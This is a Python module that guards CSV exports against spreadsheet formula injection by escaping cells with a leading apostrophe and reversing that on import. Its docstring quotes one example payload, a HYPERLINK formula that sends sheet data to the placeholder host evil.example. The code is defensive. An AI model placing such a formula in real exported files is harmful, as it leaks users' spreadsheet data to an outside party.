"""CSV that a spreadsheet opens as data, never as formulas.

Answer text, passages, titles and URLs come from outside; a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return, which some spreadsheets skip before one of those) is run as a formula when the file is
opened: ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` sends the sheet away. Every CSV citeaudit writes
goes through :class:`SafeWriter` or :class:`SafeDictWriter`, which put an apostrophe before such a cell (the
spreadsheets' own mark for "this is text"; it is not shown). Numbers stay numbers: ints and floats are written as
they are, and so is text that is a plain number (``-3``, ``+1.5e3``). ``judgements import`` removes the apostrophe
again, so an exported file imports back unchanged.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, Any

__all__ = ["FORMULA_STARTS", "SafeDictWriter", "SafeWriter", "spreadsheet_safe", "spreadsheet_text"]

FORMULA_STARTS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a cell as a formula."""

if TYPE_CHECKING:
    _DictWriter = csv.DictWriter[str]
else:  # not subscriptable at run time
    _DictWriter = csv.DictWriter

_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _formula_like(text: str) -> bool:
    # Apostrophes already in front count through: "'=x" is written "''=x", so reading it back gives "'=x" again.
    rest = text.lstrip("'")
    return rest[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(rest)


def spreadsheet_safe(value: object) -> object:
    """``value`` as a cell: text a spreadsheet would run as a formula gets a leading apostrophe."""
    if isinstance(value, str) and _formula_like(value):
        return "'" + value
    return value


def spreadsheet_text(cell: str) -> str:
    """The text of a cell :func:`spreadsheet_safe` wrote (its apostrophe removed), for files read back."""
    return cell[1:] if cell[:1] == "'" and _formula_like(cell[1:]) else cell


class SafeWriter:
    """``csv.writer`` whose cells are made safe by :func:`spreadsheet_safe`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write each row."""
        for row in rows:
            self.writerow(row)


class SafeDictWriter(_DictWriter):
    """``csv.DictWriter`` whose cells are made safe by :func:`spreadsheet_safe`."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: spreadsheet_safe(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
